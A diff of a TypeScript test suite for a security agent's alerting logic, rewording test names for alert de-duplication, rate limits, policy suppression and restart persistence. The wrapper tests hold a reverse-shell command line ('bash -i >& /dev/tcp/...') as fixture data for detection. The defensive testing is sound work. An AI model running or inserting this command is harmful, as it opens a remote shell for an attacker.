@@ -72,7 +72,7 @@ describe('Alerts', () => {
   });
   afterEach(() => time.restore());
 
-  it('raises an alert at once, with what the rule says and what happened', () => {
+  it("raises an alert immediately, with the rule's metadata and the event", () => {
     const more = { ExtraDetails: { ContainerId: 'c', Sha256: 's' } };
     take({ payload: more, fields: { ParentImage: '/bin/sh', ParentCommandLine: 'sh -c x' }, eventIds: ['e1'] });
     const [record] = raised;
@@ -103,7 +103,7 @@ describe('Alerts', () => {
     });
   });
 
-  it('has container and digest in the fields of the event', () => {
+  it('reports container and digest in the fields of the event', () => {
     take({ payload: { ExtraDetails: { ContainerId: 'c', Sha256: 's', Terminal: 't' } } });
     const [record] = raised;
     assert.ok(record !== undefined);
@@ -111,7 +111,7 @@ describe('Alerts', () => {
     assert.deepEqual([payload.ContainerId, payload.Sha256, payload.ExtraDetails], ['c', 's', { Terminal: 't' }]);
   });
 
-  it('makes events that are valid', () => {
+  it('raises events that conform to the schema', () => {
     const hostile = { ...Object.fromEntries(Array.from({ length: 99 }, (_, n) => [`F${n}`, 'é'.repeat(9_000)])) };
     take({ payload: { CommandLine: 'ü'.repeat(70_000), ExtraDetails: hostile } });
     take({ rule: { id: 'x'.repeat(9_000), tags: [], remediation: 'y'.repeat(9_000), level: 'low' } });
@@ -124,8 +124,8 @@ describe('Alerts', () => {
     assert.equal(raised.length, 2);
   });
 
-  describe('the log', () => {
-    it('has a line for each alert, by its severity, with the id of the alert', () => {
+  describe('the log of alerts', () => {
+    it("has a line for each alert, with a level by its severity and the alert's id", () => {
       for (const level of ALERT_LEVELS) take({ rule: { level, id: level } });
       const levels = logged.map((line) => line.level);
       assert.deepEqual(levels, ['info', 'info', 'warn', 'error', 'error']);
@@ -136,8 +136,8 @@ describe('Alerts', () => {
     });
   });
 
-  describe('de-duplication', () => {
-    it('counts further hits of the hour, and tells them in one update with the same id', () => {
+  describe('de-duplication of alerts', () => {
+    it('counts further hits within the hour, and sends them in one update with the same id', () => {
       take();
       pass(minutes(20));
       take();
@@ -156,7 +156,7 @@ describe('Alerts', () => {
       assert.equal(raised.length, 2);
     });
 
-    it('makes no update of an alert without further hits, and a new alert after the hour', () => {
+    it('sends no update of an alert without further hits, and a new alert after the hour', () => {
       take();
       pass(hours(1));
       take();
@@ -164,7 +164,7 @@ describe('Alerts', () => {
       assert.notEqual(raised[0]?.alertId, raised[1]?.alertId);
     });
 
-    it('gives a new alert a new id, also when the clock was set back to the hour of the one before', () => {
+    it("uses a new id for a new alert, even if the clock was set back to the previous alert's hour", () => {
       take();
       pass(hours(1));
       time.setSystemTime(START);
@@ -172,7 +172,7 @@ describe('Alerts', () => {
       assert.equal(new Set(raised.map(({ alertId }) => alertId)).size, 2);
     });
 
-    it('tells the update before a new alert of the same key, also without a tick', () => {
+    it('sends the update before a new alert of the same key, even without a tick', () => {
       take();
       take();
       time.tick(hours(1));
@@ -183,7 +183,7 @@ describe('Alerts', () => {
       );
     });
 
-    it('raises an alert for each user, rule, selection and command line of a start, whatever program runs it', () => {
+    it('raises an alert per user, rule, selection and command line of a start, for any program', () => {
       const selected = { selections: ['key'] };
       takeApart(selected);
       takeApart({ ...selected, fields: { User: 'bob' } });
@@ -197,7 +197,7 @@ describe('Alerts', () => {
       assert.equal(raised.length, 6);
     });
 
-    it('raises an alert for each program and remote address of a connection', () => {
+    it('raises an alert per program and remote address of a connection', () => {
       const connection = { source: 'network_connection' as const, selections: ['c'] };
       for (const DestinationIp of ['192.0.2.1', '192.0.2.2', '192.0.2.1'])
         take({ ...connection, fields: { DestinationIp } });
@@ -205,7 +205,7 @@ describe('Alerts', () => {
       assert.equal(raised.length, 3);
     });
 
-    it('raises an alert for each group of a correlation, not for each parent process', () => {
+    it('raises an alert per group of a correlation, not per parent process', () => {
       const group = (RemoteAddress: string, ParentProcessId: string) =>
         take({
           count: 10,
@@ -221,7 +221,7 @@ describe('Alerts', () => {
       assert.equal(raised.length, 2);
     });
 
-    it('uses the fields that the rule names', () => {
+    it('uses the key fields of the rule', () => {
       const key = { rule: { key: ['Image'] } };
       takeApart(key);
       takeApart({ ...key, fields: { User: 'bob', CommandLine: 'x' } });
@@ -229,7 +229,7 @@ describe('Alerts', () => {
       assert.equal(raised.length, 2);
     });
 
-    it('sends different evidence of an open alert within a minute, and a mere repetition only when the window closes', () => {
+    it('sends new evidence of an open alert within a minute, and mere repetitions only when the window closes', () => {
       take({ payload: { ProcessId: 1 } });
       pass(seconds(10));
       take({ payload: { ProcessId: 2 } });
@@ -250,7 +250,7 @@ describe('Alerts', () => {
       assert.equal(raised.at(-1)?.count, 4);
     });
 
-    it('sends at most five such updates of an alert', () => {
+    it('sends at most five early updates of an alert', () => {
       for (let n = 0; n < 40; n += 1) {
         take({ fields: { Image: `/tmp/${n}` } });
         pass(minutes(1));
@@ -261,7 +261,7 @@ describe('Alerts', () => {
     });
   });
 
-  describe('wrappers', () => {
+  describe('alerts of wrapped commands', () => {
     const payload = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
     const start = (
       CommandLine: string,
@@ -276,7 +276,7 @@ describe('Alerts', () => {
         payload: { ProcessId, ParentProcessId, ...more.payload },
       });
 
-    it('count what they start for the same alert', () => {
+    it('counts the children of a wrapper for the same alert', () => {
       start(`timeout 5 nohup bash -c ${payload}`, 10, 1);
       start(`nohup bash -c ${payload}`, 11, 10);
       start(`bash -c ${payload}`, 11, 10, { fields: { User: 'nobody' } });
@@ -286,13 +286,13 @@ describe('Alerts', () => {
       assert.equal(raised.length, 2, 'no update of an alert that says it all');
     });
 
-    it('count a line that a shell quotes', () => {
+    it('counts a command line that a shell quotes for the same alert', () => {
       start(`sh -c nohup bash -c "${payload}" &`, 10, 1);
       start(`nohup bash -c ${payload}`, 10, 1);
       assert.equal(raised.length, 1);
     });
 
-    it('hide no other line, no line of another process, and nothing later', () => {
+    it('keeps other lines, other processes and later starts separate', () => {
       start(`timeout 5 bash -c ${payload}`, 10, 1);
       start(`bash -c ${payload.replace('.9/', '.10/')}`, 11, 10);
       start(`bash -c ${payload}`, 12, 1);
@@ -303,20 +303,20 @@ describe('Alerts', () => {
       assert.equal(raised.length, 5);
     });
 
-    it('hide no line that the alert may not show', () => {
+    it('keeps a start separate if the alert cannot show its line completely', () => {
       start(`sh -c ${'x'.repeat(2_000)}; nohup bash -c ${payload}`, 10, 1);
       start(`nohup bash -c ${payload}`, 11, 10);
       assert.equal(raised.length, 2);
     });
 
-    it('keeps things apart that have changed', () => {
+    it('keeps starts separate that have changed', () => {
       const port = (LocalPort: string) =>
         take({ source: 'listening_port_change', fields: { LocalPort, Change: 'added' } });
       for (const one of ['1', '2', '1']) port(one);
       assert.equal(raised.length, 2);
     });
 
-    it('is not misled by steps of the wall clock', () => {
+    it('merges by the monotonic clock, regardless of steps of the wall clock', () => {
       take();
       time.setSystemTime(START.getTime() + days(300));
       take();
@@ -332,13 +332,13 @@ describe('Alerts', () => {
     });
   });
 
-  describe('limits', () => {
+  describe('limits of alerts', () => {
     const different = (count: number, more: Parameters<typeof hit>[0] = {}) => {
       for (let n = 0; n < count; n += 1) takeApart({ ...more, fields: { CommandLine: `/tmp/${n}`, ...more.fields } });
     };
     const heldBack = () => raised.filter(({ details }) => details?.HeldBack !== undefined);
 
-    it('allow 20 new alerts of a rule at once, and send one summary of the others at once', () => {
+    it('allow a burst of 20 new alerts of a rule, and one immediate summary of the rest', () => {
       different(30);
       assert.deepEqual(alerts.accounts(), { hits: 30, alerts: 20, counted: 0, suppressed: { ruleLimit: 10 } });
       const [summary, ...others] = raised.slice(20);
@@ -357,7 +357,7 @@ describe('Alerts', () => {
       assert.equal(raised.length, 23);
     });
 
-    it('leave the alerts of other users alone when one user exceeds them', () => {
+    it("counts each user's alerts separately", () => {
       for (let n = 0; n < 6; n += 1)
         different(20, { rule: { id: `r${n}`, level: 'low' }, payload: { UserId: '2001' } });
       assert.equal(alerts.accounts().alerts, 60);
@@ -389,7 +389,7 @@ describe('Alerts', () => {
       assert.deepEqual([raised.length, heldBack()[0]?.details?.HeldBack], [21, '1 held back, user block 1']);
     });
 
-    it('always allow the first alert of a rule and a user at medium or above', () => {
+    it("always allow a user's first alert of a rule at medium or above", () => {
       const by = (UserId: string, id: string, level: AlertLevel) =>
         takeApart({ rule: { id, alert: id, level }, payload: { UserId }, fields: { CommandLine: `/tmp/${id}` } });
       for (let n = 0; n < 4; n += 1)
@@ -404,13 +404,13 @@ describe('Alerts', () => {
       assert.equal(alerts.accounts().alerts, 0, 'it was not the first');
     });
 
-    it('bound these first alerts of a user', () => {
+    it('restrict the number of such first alerts per user', () => {
       for (let n = 0; n < 300; n += 1)
         takeApart({ rule: { id: `own ${n}` }, payload: { UserId: '1000' }, fields: { CommandLine: `${n}` } });
       assert.equal(alerts.accounts().alerts, 60 + 120);
     });
 
-    it('refill while time passes', () => {
+    it('refill over time', () => {
       different(25);
       assert.equal(alerts.accounts().alerts, 20);
       pass(minutes(9));
@@ -424,7 +424,7 @@ describe('Alerts', () => {
       assert.deepEqual(alerts.accounts(), { hits: 45, alerts: 20, counted: 20, suppressed: { ruleLimit: 5 } });
     });
 
-    it('show the latest evidence that is held back, each minute at first and then hourly', () => {
+    it('send the latest held-back evidence, each minute at first and then hourly', () => {
       different(21);
       const summaries = () => heldBack().length;
       for (let n = 0; n < 30; n += 1) {
@@ -437,7 +437,7 @@ describe('Alerts', () => {
       assert.match(String(heldBack().at(-1)?.subject.CommandLine), /^more \d+ \d+/);
     });
 
-    it('show another kind of hit within a minute, whatever flood it is in', () => {
+    it('send another kind of hit within a minute during any flood', () => {
       const flood = () => {
         for (let n = 0; n < 50; n += 1) takeApart({ selections: ['key'], fields: { CommandLine: `${now()} ${n}` } });
       };
@@ -456,7 +456,7 @@ describe('Alerts', () => {
       assert.ok(since.includes('echo real'), JSON.stringify(since));
     });
 
-    it('keep the rows of other users in the list of the last alerts', () => {
+    it('keep the rows of other users in the list of the latest alerts', () => {
       takeApart({ payload: { UserId: '0' } });
       const id = raised[0]?.alertId ?? '';
       for (let n = 0; n < 400; n += 1) {
@@ -467,8 +467,8 @@ describe('Alerts', () => {
     });
   });
 
-  describe('early messages', () => {
-    it('are asked for by critical and high alerts, at most once a minute', () => {
+  describe('requests for early messages', () => {
+    it('follow critical and high alerts, at most once per minute', () => {
       take({ rule: { id: 'm', level: 'medium' } });
       assert.equal(early.length, 0);
       take({ rule: { id: 'h', level: 'high' } });
@@ -484,8 +484,8 @@ describe('Alerts', () => {
     });
   });
 
-  describe('the policy', () => {
-    it('counts what it suppresses, by reason', () => {
+  describe('the alert policy', () => {
+    it('counts suppressed hits by reason', () => {
       const suppressed = (change: Partial<AlertPolicy>) => {
         policy = { ...POLICY, ...change };
         take();
@@ -515,7 +515,7 @@ describe('Alerts', () => {
       assert.equal(take({ during: 'dpkg' }), false);
     });
 
-    it('raises an alert of its own for an attack after the same hit by a trusted actor', () => {
+    it('raises a separate alert for an attack after the same hit by a trusted actor', () => {
       take({ during: 'dpkg' });
       take();
       assert.deepEqual(
@@ -527,7 +527,7 @@ describe('Alerts', () => {
       );
     });
 
-    it('is told to the caller, who is not to take a hit above a limit for a suppressed one', () => {
+    it('reports to the caller whether a hit was suppressed, unlike a hit above a limit', () => {
       const isReported = Array.from({ length: 27 }, (_, n) =>
         take({ fields: { CommandLine: `/tmp/${Math.max(1, n)}` } }),
       );
@@ -545,7 +545,7 @@ describe('Alerts', () => {
       }
     });
 
-    it('is shown in the status', () => {
+    it('appears in the status', () => {
       policy = {
         ...POLICY,
         silencedUntil: '2026-05-02T12:00:00Z',
@@ -566,7 +566,7 @@ describe('Alerts', () => {
       assert.equal(alerts.status().unusedExceptions, 'a;b');
     });
 
-    it('shows the last alert and how many of each severity there were', () => {
+    it('reports the last alert and the number of alerts per severity', () => {
       take();
       pass(minutes(1));
       take({ rule: { id: 'l', level: 'low', alert: 'L' } });
@@ -577,7 +577,7 @@ describe('Alerts', () => {
   });
 
   describe('the state to be saved', () => {
-    /** Whether `action` reports that there is something to be saved. */
+    /** Whether `action` causes a change that has to be saved. */
     const changesWith = (action: () => unknown): boolean => {
       const before = changes;
       action();
@@ -612,8 +612,8 @@ describe('Alerts', () => {
     });
   });
 
-  describe('over restarts', () => {
-    it('continues counting, with the same id, and tells the update when it is due', () => {
+  describe('alerts after a restart', () => {
+    it('continue counting with the same id, and send the update when it is due', () => {
       take();
       pass(minutes(30));
       take();
@@ -627,7 +627,7 @@ describe('Alerts', () => {
       ]);
     });
 
-    it('has something to be saved when the status judges a policy, although no rule hits', () => {
+    it('need saving when the status decides on a policy, even without hits', () => {
       const refused = new Date(now() + days(9)).toISOString();
       const exceptions = { id: { rule: 'IoT_CryptoMiner', field: 'Image', startsWith: '/opt' } };
       const counts = [{}, { silencedUntil: refused }, { silencedUntil: refused, exceptions }].map((change) => {
@@ -639,7 +639,7 @@ describe('Alerts', () => {
       assert.deepEqual(counts, [0, 1, 2]);
     });
 
-    it('takes the time into account in which it did not run', () => {
+    it('take the downtime into account', () => {
       take();
       take();
       const saved = alerts.toJson();
@@ -653,7 +653,7 @@ describe('Alerts', () => {
       );
     });
 
-    it('keeps limits, and continues the summary of held-back alerts', () => {
+    it('keep their limits, and continue the summary of held-back alerts', () => {
       for (let n = 0; n < 25; n += 1) take({ fields: { CommandLine: `/tmp/${n}` } });
       const { alertId } = raised.at(-1) ?? {};
       restart();
@@ -669,7 +669,7 @@ describe('Alerts', () => {
       assert.deepEqual([raised.length, raised.at(-1)?.count, raised.at(-1)?.alertId], [22, 7, alertId]);
     });
 
-    it('continues with the state of the previous release', () => {
+    it('continue with the state of the previous release', () => {
       take();
       take();
       const { alertId } = raised[0] ?? {};
@@ -692,7 +692,7 @@ describe('Alerts', () => {
       assert.deepEqual(sentAlerts().at(-1), [alertId, 3]);
     });
 
-    it('gives an alert the same id again when it was killed before it saved its state', () => {
+    it('get the same id again if the agent was killed before it saved its state', () => {
       take();
       alerts = create();
       take();
@@ -703,7 +703,7 @@ describe('Alerts', () => {
       assert.notEqual(create().toJson(), undefined);
     });
 
-    it('gives it the same id again, also when the one before of its key was in the same hour', () => {
+    it('get the same id again, even if the previous alert of the key was in the same hour', () => {
       take();
       pass(hours(1));
       time.setSystemTime(START);
@@ -716,7 +716,7 @@ describe('Alerts', () => {
       assert.equal(raised[1]?.alertId, raised[2]?.alertId);
     });
 
-    it('keeps the last 200 alerts', () => {
+    it('include the last 200 in the history', () => {
       for (let n = 0; n < 210; n += 1) {
         take({ rule: { id: `r${n}` }, fields: { User: `u${n}` } });
         pass(minutes(31));
@@ -727,7 +727,7 @@ describe('Alerts', () => {
       assert.deepEqual(alerts.history.list(), before);
     });
 
-    it('ignores a damaged state', () => {
+    it('ignore a damaged state', () => {
       take();
       const saved = alerts.toJson() as Record<string, unknown>;
       for (const damaged of [
@@ -746,7 +746,7 @@ describe('Alerts', () => {
     });
   });
 
-  it('keeps its limits and its books whatever happens', () => {
+  it('never exceeds its limits, and its counts always add up', () => {
     const step = fc.oneof(
       {
         weight: 8,
@@ -822,7 +822,7 @@ describe('Alerts', () => {
     );
   });
 
-  it('tells in its last updates and summaries every hit that was not suppressed otherwise', () => {
+  it('reports every unsuppressed hit in its last updates and summaries', () => {
     fc.assert(
       fc.property(fc.array(fc.integer({ min: 0, max: 60 }), { maxLength: 300 }), (users) => {
         [raised, policy] = [[], POLICY];
@@ -849,7 +849,7 @@ describe('AlertTimes', () => {
   });
   afterEach(() => time.restore());
 
-  it('tells updates when they are due, and early messages when it is rung', async () => {
+  it('sends updates when they are due, and early messages when it is rung', async () => {
     const raised: AlertRaised[] = [];
     const early: Date[] = [];
     const log = quietLog();
